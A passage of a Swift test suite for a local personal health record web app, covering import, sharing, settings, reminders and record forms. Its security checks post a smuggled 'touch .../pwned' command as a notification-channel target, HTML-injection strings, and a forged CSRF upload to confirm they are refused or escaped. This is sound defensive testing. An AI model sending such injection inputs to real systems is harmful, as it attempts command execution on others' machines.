        let again1 = try get("/documents/\(docID)/labs?read=again")
        _ = try post("/documents/\(docID)/labs", "reading=\(try reading(again1))&" + (1...22).map { "keep-\($0)=1" }.joined(separator: "&"))
        let again = try get("/labs")
        #expect(again.contains("Saved 1 result from this report; 21 were saved from it before and were left alone."), "\(again)")
    }

    /// Importing from the browser: a C-CDA uploaded as a form posts it, is read in the sandbox
    /// like `phr import`, and its report is the page the browser is sent to; a dry run changes
    /// nothing; a file phr cannot read is refused by its name, not the memory file's.
    @Test func importAFileAndReadItsReport() throws {
        let cli = try CLI(label: "serve-import")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let origin = "http://\(agent.host)"
        let recordsPage = try agent.request("GET", "/records", headers: ["Cookie": cookie]).body
        let profileField = try #require(recordsPage.range(of: #"name="profile" value="[0-9]+""#, options: .regularExpression)
            .map { String(recordsPage[$0].dropFirst(#"name="profile" value=""#.count).dropLast()) })
        func upload(_ name: String, _ bytes: [UInt8], dryRun: Bool = false, profile: String? = nil) throws -> HTTPAnswer {
            let boundary = "phrtest\(UUID().uuidString.prefix(8))"
            var fields = [("csrf", csrf), ("profile", profile ?? profileField)]
            if dryRun { fields.append(("dry_run", "1")) }
            return try agent.post("/records/import", bytes: Self.multipart(boundary: boundary, fields: fields, files: [(name, bytes)]),
                                  contentType: "multipart/form-data; boundary=\(boundary)", headers: ["Cookie": cookie, "Origin": origin])
        }
        func get(_ path: String) throws -> String { try agent.request("GET", path, headers: ["Cookie": cookie]).body }
        let ccd = Array(CCDASampleDocument().xml.utf8)
        let expected = CCDASampleDocument.Expected.self

        let dry = try upload("ccd.xml", ccd, dryRun: true)
        #expect(dry.status == 303 && dry.header("location") == "/records/import")
        let wouldBe = try get("/records/import")
        #expect(wouldBe.contains("Would import ccd.xml") && wouldBe.contains("Nothing was changed"), "\(wouldBe)")
        #expect(!(try get("/records").contains(expected.patientName)), "a dry run stores nothing")

        #expect(try upload("ccd.xml", ccd).status == 303)
        let report = try get("/records/import")
        #expect(report.contains("<h1>Imported ccd.xml</h1>"), "\(report)")
        #expect(report.contains("<tr><th scope=\"row\">Medications</th><td class=\"number\">\(expected.medications)</td>"), "\(report)")
        #expect(report.contains("<tr><th scope=\"row\">Allergies</th><td class=\"number\">\(expected.allergies)</td>"))
        #expect(report.contains("<tr><th scope=\"row\">Immunizations</th><td class=\"number\">\(expected.immunizations)</td>"))
        let record = try get("/records")
        #expect(record.contains(expected.patientName), "the medical ID came with it")
        // Again: everything is already there.
        _ = try upload("ccd.xml", ccd)
        #expect(try get("/records/import").contains("<tr><th scope=\"row\">Medications</th><td class=\"number\">0</td><td class=\"number\">0</td><td class=\"number\">\(expected.medications)</td>"))

        // From a page that showed another profile: refused, nothing imported.
        _ = try upload("ccd.xml", ccd, profile: "999")
        #expect(try get("/records/import").contains("another profile"))
        _ = try upload("notes.txt", Array("just some words".utf8))
        let refused = try get("/records/import")
        #expect(refused.contains("<h1>Not imported</h1>") && refused.contains("notes.txt") && !refused.contains("/proc/self/fd"), "\(refused)")
        // Without its CSRF token an upload is refused before it is read into anything.
        let boundary = "phrtestnocsrf"
        let forged = try agent.post("/records/import", bytes: Self.multipart(boundary: boundary, fields: [], files: [("ccd.xml", ccd)]),
                                    contentType: "multipart/form-data; boundary=\(boundary)", headers: ["Cookie": cookie, "Origin": origin])
        #expect(forged.status == 403)
    }

    /// The share screen: a bundle without a recipient is refused beside its field; a preview
    /// lists what goes; the PDF and the IPS come as downloads made in memory, and the PDF reads
    /// (pdftotext) as `phr share`'s does, with the one document ticked.
    @Test func shareScreenPreviewsAndDownloadsTheBundle() throws {
        let cli = try CLI(label: "serve-share")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        #expect(try cli.run(["med", "add", "Levothyroxine", "--dose", "50 µg", "--schedule", "08:00"], Self.env).status == 0)
        #expect(try cli.run(["allergy", "add", "Penicillin", "--severity", "severe"], Self.env).status == 0)
        let added = try cli.run(["doc", "add", "\(CLI.packageRoot)/Samples/documents/lab-report-cbc-ferritin.pdf", "--json"], Self.env)
        let docID = try #require(added.stdout.range(of: #""id" *: *"[0-9a-z]{6}""#, options: .regularExpression)
            .map { String(added.stdout[$0].suffix(7).dropLast()) })
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let origin = "http://\(agent.host)"
        func post(_ path: String, _ body: String) throws -> HTTPAnswer {
            try agent.request("POST", path, body: body + "&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        }
        func get(_ path: String) throws -> String { try agent.request("GET", path, headers: ["Cookie": cookie]).body }

        #expect(try get("/share").contains("name=\"doc-\(docID)\""), "the documents to tick")
        _ = try post("/share/preview", "for=&section-summary=1")
        #expect(try get("/share").contains("id=\"share-for\" name=\"for\" type=\"text\" value=\"\" autocomplete=\"off\" required aria-invalid=\"true\""))
        #expect(try post("/share/pdf", "").status == 404, "nothing to download before a preview")
        _ = try post("/share/preview", "for=Dr+Lee+%3Cb%3E&section-summary=1&section-allergies=1&section-medications=1&section-documents=1&documents=chosen&doc-\(docID)=1&paper=a4&ips=1")
        let preview = try get("/share")
        #expect(preview.contains("What will go to Dr Lee &lt;b&gt;") && preview.contains("Medications: 1 current medication")
                && preview.contains("1 document, 2 pages"), "\(preview)")
        let pdf = try post("/share/pdf", "")
        #expect(pdf.status == 200 && pdf.header("content-disposition")?.hasPrefix("attachment; filename=\"phr-bundle-") == true)
        #expect(pdf.header("content-security-policy")?.hasPrefix("sandbox") == true && pdf.header("cache-control") == "no-store")
        #expect(Array(pdf.bodyBytes.prefix(5)) == Array("%PDF-".utf8))
        let file = cli.directory + "/downloaded.pdf"
        try Data(pdf.bodyBytes).write(to: URL(fileURLWithPath: file))
        let text = try ShareCommandTests.tool("pdftotext", [file, "-"]).stdout
        #expect(text.contains("Prepared for: Dr Lee <b>") && text.contains("Levothyroxine") && text.contains("Penicillin"), "\(text.prefix(800))")
        #expect(text.contains("Documents included: 1 (2 pages)") && text.contains("Ferritin"))
        // With a password: the PDF opens only with it (a password PDF cannot take is refused in words).
        let locked = try post("/share/pdf", "password=horse+%C3%A9t%C3%A9+battery")
        #expect(locked.status == 200 && Array(locked.bodyBytes.prefix(5)) == Array("%PDF-".utf8))
        let lockedFile = cli.directory + "/downloaded-locked.pdf"
        try Data(locked.bodyBytes).write(to: URL(fileURLWithPath: lockedFile))
        #expect(try ShareCommandTests.pages(lockedFile) == nil, "it does not open without the password")
        #expect(try ShareCommandTests.pages(lockedFile, password: "horse été battery") == (try ShareCommandTests.pages(file)))
        #expect(try ShareCommandTests.tool("pdftotext", ["-upw", "horse été battery", lockedFile, "-"]).stdout.contains("Prepared for: Dr Lee <b>"))
        let tooLong = try post("/share/pdf", "password=" + String(repeating: "x", count: 200))
        #expect(tooLong.status == 303 && tooLong.header("location") == "/share")
        #expect(try get("/share").contains("Nothing was made: the password is longer than 127 bytes."))
        let ips = try post("/share/ips", "")
        #expect(ips.header("content-type") == "application/fhir+json")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(ips.bodyBytes)) as? [String: Any])
        #expect(json["resourceType"] as? String == "Bundle" && json["type"] as? String == "document")
        // A section left out is left out of the IPS too: withheld, not "none recorded".
        _ = try post("/share/preview", "for=Dr+Lee&section-summary=1&section-medications=1&documents=recent&paper=a4&ips=1")
        let narrow = try #require(try JSONSerialization.jsonObject(with: Data(try post("/share/ips", "").bodyBytes)) as? [String: Any])
        let resources = ((narrow["entry"] as? [[String: Any]]) ?? []).compactMap { ($0["resource"] as? [String: Any])?["resourceType"] as? String }
        #expect(!resources.contains("AllergyIntolerance") && resources.contains("MedicationStatement"), "\(resources)")
        let composition = ((narrow["entry"] as? [[String: Any]])?.first?["resource"] as? [String: Any]) ?? [:]
        let allergySection = ((composition["section"] as? [[String: Any]]) ?? []).first { ($0["title"] as? String) == "Allergies and Intolerances" }
        let reason = ((allergySection?["emptyReason"] as? [String: Any])?["coding"] as? [[String: Any]])?.first?["code"] as? String
        #expect(reason == "withheld", "\(String(describing: allergySection))")
        // Another profile chosen: the choices go, nothing downloads for the wrong person.
        _ = try cli.run(["profile", "add", "Sam"], Self.env)
        _ = try post("/profile", "profile=Sam")
        #expect(try post("/share/pdf", "").status == 404)
        _ = try post("/profile", "profile=me")
        // Made in memory: no PDF or JSON appeared beside the vault or in the runtime directory.
        let written = (FileManager.default.subpaths(atPath: cli.directory) ?? []).filter { $0.hasSuffix(".pdf") || $0.contains("ips") || $0.contains("bundle") }
        #expect(written.sorted() == ["downloaded-locked.pdf", "downloaded.pdf"], "\(written)")
    }

    /// The settings screen: units, a goal (refused, then set), a profile, OCR languages (an
    /// uninstalled one refused) and a test notification through a real command channel.
    @Test func settingsSaveAndTestAChannel() throws {
        let cli = try CLI(label: "serve-settings")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        let script = cli.directory + "/notify.sh"
        #expect(FileManager.default.createFile(atPath: script, contents: Data("#!/bin/sh\ncat >> '\(cli.directory)/notified.log'\n".utf8),
                                               attributes: [.posixPermissions: 0o755]))
        #expect(try cli.run(["remind", "channel", "add", "command", script], Self.env).status == 0)
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let origin = "http://\(agent.host)"
        func post(_ path: String, _ body: String) throws -> HTTPAnswer {
            try agent.request("POST", path, body: body + "&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        }
        func get(_ path: String) throws -> String { try agent.request("GET", path, headers: ["Cookie": cookie]).body }

        #expect(try post("/settings/health", "units=us&glucose-unit=mg%2FdL&serving=8+fl+oz").header("location") == "/settings")
        let saved = try get("/settings")
        #expect(saved.contains("Saved the units.") && saved.contains("<option value=\"us\" selected>") && saved.contains("value=\"8 fl oz\""), "\(saved)")
        _ = try post("/settings/goal", "metric=water&value=lots&per=day")
        #expect(try get("/settings").contains("id=\"goal-water-value\" name=\"value\" type=\"text\" value=\"lots\" aria-invalid=\"true\""))
        _ = try post("/settings/goal", "metric=workout&value=150min&per=week")
        let goal = try get("/settings")
        #expect(goal.contains("The workouts goal is 2h 30m a week"), "\(goal)")
        let shown = try cli.run(["goal", "list", "--json"], Self.env)
        #expect(shown.stdout.contains("\"week\""), "\(shown.stdout)")
        _ = try post("/settings/profile", "name=Sam&relation=child")
        #expect(try get("/settings").contains("<strong>Sam</strong> <span class=\"muted\">child</span>"))
        _ = try post("/settings/profile", "name=sam&relation=child")
        #expect(try get("/settings").contains("field-error"), "a second Sam is refused")
        _ = try post("/settings/ocr", "ocr=xyz")
        let ocr = try get("/settings")
        #expect(ocr.contains("field-error") && ocr.contains("value=\"xyz\""), "an uninstalled language is refused")
        _ = try post("/settings/channels/test", "")
        let tested = try get("/settings")
        #expect(tested.contains("Test notification: command (") && tested.contains("): sent."), "\(tested)")
        let log = (try? String(contentsOfFile: cli.directory + "/notified.log", encoding: .utf8)) ?? ""
        #expect(!log.isEmpty, "the channel's command ran")

        // Reminders: a water window that is not one refused beside its field; water, a
        // medication's doses and appointments added (only the chosen kind's fields are read);
        // one paused and resumed, one removed after its page; the CLI lists what is left.
        #expect(try cli.run(["med", "add", "Levothyroxine", "--dose", "50 mcg", "--schedule", "07:00"], Self.env).status == 0)
        _ = try post("/settings/reminders/add", "kind=water&mode=all&window=8-late&before=1h")
        #expect(try get("/settings").contains("id=\"reminder-add-window\" name=\"window\" type=\"text\" value=\"8-late\" aria-invalid=\"true\""))
        _ = try post("/settings/reminders/add", "kind=water&mode=rare&window=09%3A00-21%3A00&before=1h")
        #expect(try get("/settings").contains("Added the reminder: water rare: 09:00."))
        _ = try post("/settings/reminders/add", "kind=med&mode=all&medication=")
        _ = try post("/settings/reminders/add", "kind=appt&before=2h&window=x")
        let reminders = try get("/settings")
        #expect(reminders.contains("Added the reminder: appointments, 2h before.") && reminders.contains("every scheduled medication"), "\(reminders)")
        let pause = try #require(reminders.range(of: #"/settings/reminders/[0-9a-z]+/pause"#, options: .regularExpression).map { String(reminders[$0]) })
        _ = try post(pause, "paused=1")
        #expect(try get("/settings").contains("Paused the reminder: water rare: 09:00."))
        #expect(try cli.run(["remind", "list"], Self.env).stdout.contains("paused"))
        _ = try post(pause, "paused=0")
        #expect(!(try cli.run(["remind", "list"], Self.env).stdout.contains("paused")))
        let remove = pause.replacingOccurrences(of: "/pause", with: "/remove")
        #expect(try get(remove).contains("Remove the reminder?"))
        _ = try post(remove, "")
        let remindList = try cli.run(["remind", "list", "--json"], Self.env).stdout
        #expect(!remindList.contains("\"water\"") && remindList.contains("\"appt\"") && remindList.contains("\"med\""), "\(remindList)")

        // A Gotify channel added from the browser: refused without its token, and for an address
        // that is not https (said beside the field, the token never sent back); then added, and
        // the test reaches a real server on loopback with the token. A command is never added
        // from a browser.
        let server = try LoopbackHTTPServer()
        defer { server.stop() }
        let token = "AgotifyWebSecret.42"
        _ = try post("/settings/channels/add", "kind=gotify&target=http%3A%2F%2Flocalhost%3A\(server.port)%2F&token=")
        #expect(try get("/settings").contains("id=\"channel-add-token\" name=\"token\" type=\"password\" value=\"\" aria-invalid=\"true\""))
        _ = try post("/settings/channels/add", "kind=gotify&target=http%3A%2F%2Fgotify.example.org%2F&token=\(token)")
        let refusedChannel = try get("/settings")
        #expect(refusedChannel.contains("id=\"channel-add-target\" name=\"target\" type=\"text\" value=\"http://gotify.example.org/\" aria-invalid=\"true\""),
                "\(refusedChannel)")
        #expect(!refusedChannel.contains(token), "a refused form never shows the token again")
        // Never a command, however the kind is spelled.
        for spelling in ["command", "Command", "+command+", "COMMAND"] {
            _ = try post("/settings/channels/add", "kind=\(spelling)&target=touch+\(cli.directory)/pwned")
            #expect(try get("/settings").contains("A command channel is added on this computer"), "\(spelling)")
        }
        // A refused address holding a password is not kept to be shown again.
        _ = try post("/settings/channels/add", "kind=ntfy&target=https%3A%2F%2Fme%3Ahunter2%40ntfy.example.org%2Ftopic")
        #expect(!(try get("/settings").contains("hunter2")))
        _ = try post("/settings/channels/add", "kind=gotify&target=http%3A%2F%2Flocalhost%3A\(server.port)%2F&token=\(token)")
        let added = try get("/settings")
        #expect(added.contains("Added the gotify channel http://localhost:\(server.port)/.") && !added.contains(token), "\(added)")
        let listed = try cli.run(["remind", "channel", "list", "--json"], Self.env).stdout
        #expect(listed.contains("gotify") && !listed.contains("pwned") && listed.components(separatedBy: "\"command\"").count == 2,
                "only the command channel the terminal added: \(listed)")
        _ = try post("/settings/channels/test", "")
        #expect(try get("/settings").contains("gotify ("))
        let request = try #require(server.requests.first { $0.target == "/message" })
        #expect(request.headers["x-gotify-key"] == token)
        // Removed after its confirmation page.
        let removal = try #require(added.range(of: #"/settings/channels/[0-9a-z]+/remove"#, options: .regularExpression).map { String(added[$0]) })
        let lastRemoval = try #require(added.ranges(of: #/\/settings\/channels\/[0-9a-z]+\/remove/#).last.map { String(added[$0]) })
        #expect(try get(lastRemoval).contains("Remove the reminder channel?"))
        #expect(try post(lastRemoval, "").header("location") == "/settings")
        let afterRemoval = try get("/settings")
        #expect(afterRemoval.contains("Removed the gotify channel") && afterRemoval.contains(removal), "the command channel stays")
        #expect(try agent.request("GET", "/settings/channels/zzzzzz/remove", headers: ["Cookie": cookie]).status == 404)
    }

    /// The record screens through raw requests: a refused form comes back with its values and
    /// the error on its field, an accepted one leads to what it made; record text is escaped;
    /// a view's own keys survive a redirect; the .ics is an attachment.
    @Test func recordScreensAddRefuseAndComeBack() throws {
        let cli = try CLI(label: "serve-records")
        defer { cli.cleanUp() }
        _ = try cli.initVault(passphrase: Self.passphrase)
        #expect(try cli.run(["lab", "add", "ferritin", "25", "ng/mL", "--range", "30-400", "--date", "2025-06-01"], Self.env).status == 0)
        let agent = try Agent(cli)
        defer { agent.stop() }
        let (cookie, csrf) = try agent.signIn()
        let origin = "http://\(agent.host)"
        func post(_ path: String, _ body: String) throws -> HTTPAnswer {
            try agent.request("POST", path, body: body + "&csrf=\(csrf)", headers: ["Cookie": cookie, "Origin": origin])
        }
        func get(_ path: String) throws -> HTTPAnswer { try agent.request("GET", path, headers: ["Cookie": cookie]) }

        // A medication: refused (a time that is not one), then added.
        let refused = try post("/medications/add", "name=Tri%3Cb%3E&kind=times&schedule=25%3A00")
        #expect(refused.status == 303 && refused.header("location") == "/medications")
        let form = try get("/medications").body
        #expect(form.contains("id=\"med-add-schedule\" name=\"schedule\" type=\"text\" value=\"25:00\" aria-invalid=\"true\""), "\(form)")
        #expect(form.contains("value=\"Tri&lt;b&gt;\""), "what was typed is kept, escaped")
        #expect(form.contains("class=\"field-error\"") && form.contains("Times of day"))
        #expect(!(try get("/medications").body.contains("field-error")), "the error is said once")
        let added = try post("/medications/add", "name=Tri%3Cb%3E&dose=5+mg&kind=times&schedule=08%3A00%2C20%3A00")
        let medPath = try #require(added.header("location"))
        #expect(medPath.hasPrefix("/medications/"))
        let page = try get(medPath).body
        #expect(page.contains("Added Tri&lt;b&gt; 5 mg, 08:00 and 20:00."), "\(page)")
        #expect(page.contains("section class=\"card adherence\""))
        #expect(try get(medPath + "?month=2020-01").body.contains("Doses in January 2020"))
        #expect(try get("/medications/zzzzzz").status == 404)
        #expect(try get("/medications").body.contains("Tri&lt;b&gt;"))
        // Changed from its page: a wrong time refused beside its field, then a new dose and times.
        _ = try post(medPath + "/edit", "name=Tri%3Cb%3E&dose=5+mg&kind=times&schedule=8+oclock")
        #expect(try get(medPath).body.contains("id=\"med-edit-schedule\" name=\"schedule\" type=\"text\" value=\"8 oclock\" aria-invalid=\"true\""))
        _ = try post(medPath + "/edit", "name=Tri%3Cb%3E&dose=10+mg&kind=times&schedule=07%3A30&instructions=with+food")
        let edited = try get(medPath).body
        #expect(edited.contains("Saved Tri&lt;b&gt; 10 mg, daily at 07:30.") && edited.contains("<dd>with food</dd>"), "\(edited)")
        let shownMed = try cli.run(["med", "show", String(medPath.split(separator: "/").last!), "--json"], Self.env).stdout
        #expect(shownMed.contains("10 mg") && shownMed.contains("07:30"), "\(shownMed)")

        // An appointment: refused without a date, then added; its day lists it; the calendar file.
        let noDate = try post("/appointments/add", "with=Dr+Rivera&date=&time=")
        #expect(noDate.header("location") == "/appointments")
        #expect(try get("/appointments").body.contains("field-error"))
        let booked = try post("/appointments/add", "with=Dr+Rivera&date=2031-03-04&time=10%3A15&duration=45m&location=Room+3")
        #expect(booked.header("location") == "/appointments?day=2031-03-04")
        let day = try get("/appointments?day=2031-03-04").body
        #expect(day.contains("Dr Rivera") && day.contains("Room 3") && day.contains("On Tue 4 March 2031"), "\(day)")
        #expect(day.contains("aria-current=\"true\""))
        // Changed: a date that is not one is refused beside its field; then moved to 10:45.
        let apptID = try #require(day.range(of: #"/appointments/[0-9a-z]+/edit"#, options: .regularExpression).map { String(day[$0]) })
        #expect(try post(apptID, "with=Dr+Rivera&date=2031-02-30&time=10%3A15").header("location") == apptID)
        #expect(try get(apptID).body.contains("aria-invalid=\"true\""))
        #expect(try get(apptID).body.contains("id=\"appt-edit-remind\" name=\"remind\" type=\"text\" value=\"\""))
        let moved = try post(apptID, "with=Dr+Rivera&date=2031-03-04&time=10%3A45&duration=30m&location=Room+4&reason=&remind=90m")
        #expect(moved.header("location") == "/appointments?day=2031-03-04")
        let movedDay = try get("/appointments?day=2031-03-04").body
        #expect(movedDay.contains("Saved the appointment with Dr Rivera on Tue 4 March 2031 at 10:45.") && movedDay.contains("Room 4"), "\(movedDay)")
        // Its reminder is shown as it can be typed again: saving the form unchanged changes nothing.
        let remindShown = try get(apptID).body
        let remindValue = try #require(remindShown.range(of: #"name="remind" type="text" value="[^"]+""#, options: .regularExpression).map { String(remindShown[$0]) })
        #expect(remindValue.hasSuffix("value=\"90m\""), "exact, never rounded: \(remindValue)")
        _ = try post(apptID, "with=Dr+Rivera&date=2031-03-04&time=10%3A45&duration=30m&location=Room+4&reason=&remind=90m&remind-shown=90m")
        #expect(try get("/appointments?day=2031-03-04").body.contains("reminder 1h 30m before"))
        // A lead time phr wrote itself (an imported alarm at the start: 0 minutes) is shown and
        // left alone when the form is saved unchanged; it was refused as typed input.
        let ics0 = cli.directory + "/alarm-at-start.ics"
        try """
            BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\nBEGIN:VEVENT\r\nUID:alarm-at-start@example.org\r\nDTSTAMP:20260101T000000Z\r\n\
            DTSTART:20310305T090000Z\r\nDTEND:20310305T093000Z\r\nSUMMARY:Dr Okafor\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER:PT0M\r\n\
            END:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n
            """.write(toFile: ics0, atomically: true, encoding: .utf8)
        #expect(try cli.run(["appt", "import", ics0], Self.env).status == 0)
        let okafor = try get("/appointments?day=2031-03-05").body
        let okaforEdit = try #require(okafor.range(of: #"/appointments/[0-9a-z]+/edit"#, options: .regularExpression).map { String(okafor[$0]) })
        #expect(try get(okaforEdit).body.contains("name=\"remind\" type=\"text\" value=\"0m\""))
        let unchanged = try post(okaforEdit, "with=Dr+Okafor&date=2031-03-05&time=10%3A00&duration=30m&location=Room+5&reason=&remind=0m&remind-shown=0m")
        #expect(unchanged.header("location") == "/appointments?day=2031-03-05", "saved, not refused for its lead time")
        let ics = try get("/appointments/calendar.ics")
        #expect(ics.header("content-disposition") == "attachment; filename=\"appointments.ics\"")
        #expect(ics.header("content-type")?.hasPrefix("text/calendar") == true)
        #expect(ics.body.contains("BEGIN:VEVENT") && ics.body.contains("Dr Rivera"))

        // A lab result: refused, then added; its page in the printed unit, SI on request.
        #expect(try post("/labs/add", "analyte=Ferritin&value=lots&unit=ng%2FmL").header("location") == "/labs")
        #expect(try get("/labs").body.contains("id=\"lab-add-value\" name=\"value\" type=\"text\" value=\"lots\" aria-invalid=\"true\""))
        let lab = try post("/labs/add", "analyte=Ferritin&value=48&unit=ng%2FmL&range=30-400&date=2026-01-10")
        let labPath = try #require(lab.header("location"))
        let chart = try get(labPath).body
        #expect(chart.contains("<svg class=\"chart lab-chart\"") && chart.contains("48 ng/mL"), "\(chart)")
        #expect(chart.contains("Show in SI units (µg/L)"))
        let si = try get(labPath + "?units=si").body
        #expect(si.contains("48 µg/L") && si.contains("Show the units as printed"))
        #expect(try get("/labs/zzzzzz").status == 404)

        // The health log: a log comes back to the view it was made from.
        let logged = try post("/log/add", "metric=water&amount=500ml&drink=tea&back=%2Flog%3Fmetric%3Dwater%26period%3Dmonth")
        #expect(logged.header("location") == "/log?metric=water&period=month")
        let month = try get("/log?metric=water&period=month").body
        #expect(month.contains("Logged 500 ml of tea."), "\(month)")
        #expect(month.components(separatedBy: "<g class=\"bar").count - 1 == 30)
        let wrong = try post("/log/add", "metric=water&amount=lots&back=%2Flog%3Fmetric%3Dwater%26period%3Dweek")
        #expect(wrong.header("location") == "/log?metric=water&period=week")
        #expect(try get("/log?metric=water&period=week").body.contains("id=\"log-add-amount\" name=\"amount\" type=\"text\" value=\"lots\" aria-invalid=\"true\""))
        #expect(try get("/log?metric=nonsense&period=forever").status == 200, "an unknown view shows the default one")

        // A chart pinned to Today, and unpinned; a pin of nothing is refused in words.
        #expect(!(try get("/").body.contains("Pinned charts")))
        let pinned = try post("/log/pin", "metric=weight&period=year&back=%2Flog%3Fmetric%3Dweight%26period%3Dyear")
        #expect(pinned.header("location") == "/log?metric=weight&period=year")
        #expect(try get("/log?metric=weight&period=year").body.contains("Unpin from Today"))
        let today = try get("/").body
        #expect(today.contains("Pinned charts") && today.contains("href=\"/log?metric=weight&amp;period=year\">Weight, last 12 months</a>"), "\(today)")
        _ = try post("/log/pin", "metric=weight&period=year&pin=1")
        #expect(try get("/").body.contains("Pinned charts"), "pinning what is pinned keeps it")
        _ = try post("/log/pin", "metric=weight&period=year&pin=0")
        #expect(!(try get("/").body.contains("Pinned charts")))
        _ = try post("/log/pin", "metric=weight&period=forever")
        #expect(try get("/").body.contains("Nothing was pinned"))

        // The health record: a contact refused for its phone, then added; the medical ID refused
        // for its blood type, then saved; a record removed after its confirmation page.
        #expect(try post("/records/contact/add", "name=Jo&phone=call+me").header("location") == "/records")
        let refusedContact = try get("/records").body
        #expect(refusedContact.contains("id=\"contact-add-phone\" name=\"phone\" type=\"tel\" value=\"call me\" aria-invalid=\"true\""), "\(refusedContact)")
        _ = try post("/records/contact/add", "name=Jo+%3Ci%3E&phone=%2B44+20+7946+0000&relation=partner&emergency=1")
        let record = try get("/records").body
        #expect(record.contains("Added Jo &lt;i&gt; to contacts.") && record.contains("href=\"tel:+44 20 7946 0000\""))
        _ = try post("/records/id", "name=Alex&dob=1980-02-03&sex=&blood-type=Q%2B&organ-donor=&height=&weight=")
        #expect(try get("/records").body.contains("id=\"id-set-blood-type\" name=\"blood-type\" type=\"text\" value=\"Q+\" aria-invalid=\"true\""))
        _ = try post("/records/id", "name=Alex&dob=1980-02-03&sex=female&blood-type=O-&organ-donor=yes&height=170+cm&weight=")
        let saved = try get("/records").body
        #expect(saved.contains("Saved the medical ID.") && saved.contains("<dd>O-</dd>") && saved.contains("<dd>1980-02-03</dd>"))
        _ = try post("/records/allergy/add", "substance=Latex&severity=moderate")
        let listing = try get("/records").body
        let allergyID = try #require(listing.range(of: #"/records/allergy/[0-9a-z]+/remove"#, options: .regularExpression).map { String(listing[$0]) })
        // Changed on its own page, prefilled: a date that is not one refused beside its field,
        // as typed; then a reaction, a status and notes; the CLI reads the change.
        let editPath = allergyID.replacingOccurrences(of: "/remove", with: "/edit")
        #expect(listing.contains("href=\"\(editPath)\" aria-label=\"Change Latex\""))
        let editForm = try get(editPath).body
        #expect(editForm.contains("<h1>Change Latex</h1>") && editForm.contains("value=\"Latex\"")
                && editForm.contains("<option value=\"moderate\" selected>"), "\(editForm)")
        #expect(try post(editPath, "substance=Latex&severity=moderate&status=active&since=last+spring&notes=").header("location") == editPath)
        let refusedEdit = try get(editPath).body
        #expect(refusedEdit.contains("id=\"allergy-edit-since\" name=\"since\" type=\"text\" value=\"last spring\" aria-invalid=\"true\""), "\(refusedEdit)")
        #expect(try post(editPath, "substance=Latex&reaction=hives&severity=severe&category=environment&status=inactive&since=2019-05&notes=gloves+at+the+dentist")
            .header("location") == "/records")
        let changed = try get("/records").body
        #expect(changed.contains("Saved Latex in allergies.") && changed.contains("hives") && changed.contains("since 2019-05"), "\(changed)")
        let allergyJSON = try cli.run(["allergy", "list", "--json"], Self.env).stdout
        #expect(allergyJSON.contains("\"inactive\"") && allergyJSON.contains("gloves at the dentist") && allergyJSON.contains("environment"), "\(allergyJSON)")
        // An emptied optional field clears it; a contact's emergency box unticked takes it off the card.
        let contactEdit = try #require(changed.range(of: #"/records/contact/[0-9a-z]+/edit"#, options: .regularExpression).map { String(changed[$0]) })
        #expect(try get(contactEdit).body.contains("name=\"emergency\" value=\"1\" checked"))
        _ = try post(contactEdit, "name=Jo&phone=%2B44+20+7946+0000&relation=&email=")
        let contactJSON = try cli.run(["contact", "list", "--json"], Self.env).stdout
        #expect(contactJSON.contains("\"emergency\" : false") || contactJSON.contains("\"emergency\":false"), "\(contactJSON)")
        #expect(!contactJSON.contains("partner"), "\(contactJSON)")
        // Procedures and family history: refused beside their field, added, changed, listed by the CLI.
        _ = try post("/records/procedure/add", "name=Appendectomy&date=last+spring&status=completed")
        #expect(try get("/records").body.contains("id=\"procedure-add-date\" name=\"date\" type=\"text\" value=\"last spring\" aria-invalid=\"true\""))
        _ = try post("/records/procedure/add", "name=Appendectomy&date=2009-04&status=completed&body-site=appendix&performer=Dr+Ortiz")
        _ = try post("/records/family/add", "relation=mother&condition=Breast+cancer&age=fifty&cause-of-death=")
        #expect(try get("/records").body.contains("id=\"family-add-age\" name=\"age\" type=\"text\" value=\"fifty\" aria-invalid=\"true\""))
        _ = try post("/records/family/add", "relation=mother&condition=Breast+cancer&age=52&cause-of-death=")
        let histories = try get("/records").body
        #expect(histories.contains("<strong>Appendectomy</strong> <span class=\"muted\">2009-04, appendix, by Dr Ortiz</span>"), "\(histories)")
        #expect(histories.contains("<strong>mother</strong>: Breast cancer <span class=\"muted\">from age 52</span>"), "\(histories)")
        let familyEdit = try #require(histories.range(of: #"/records/family/[0-9a-z]+/edit"#, options: .regularExpression).map { String(histories[$0]) })
        #expect(try get(familyEdit).body.contains("value=\"Breast cancer\""))
        _ = try post(familyEdit, "relation=mother&condition=Breast+cancer&age=52&cause-of-death=yes&notes=")
        let familyJSON = try cli.run(["family", "list", "--json"], Self.env).stdout
        #expect(familyJSON.contains("\"cause_of_death\" : true") && familyJSON.contains("\"relation_code\" : \"MTH\""), "\(familyJSON)")
        #expect(try cli.run(["procedure", "list"], Self.env).stdout.contains("Appendectomy"))
        let timeline = try get("/timeline?kind=procedure").body
        #expect(timeline.contains("Procedure: Appendectomy"), "\(timeline)")
        #expect(try get("/records/allergy/zzzzzz/edit").status == 404)
        #expect(try post("/records/contact/zzzzzz/edit", "name=x&phone=1").status == 404)
        let confirm = try get(allergyID)
        #expect(confirm.status == 200 && confirm.body.contains("Remove an allergy?") && confirm.body.contains("Latex"), "\(allergyID) \(confirm.status) \(confirm.body.prefix(300))")
        #expect(try get("/records").body.contains("Latex"), "a GET removes nothing")
        #expect(try post(allergyID, "").header("location") == "/records")
        let after = try get("/records").body
        #expect(after.contains("Removed Latex from allergies.") && !after.contains("<strong>Latex</strong>"))
        #expect(try get("/records/allergy/zzzzzz/remove").status == 404)
        #expect(try get("/records/spells/x/remove").status == 404)
    }

    /// multipart/form-data as a browser's form sends it: fields, then files.
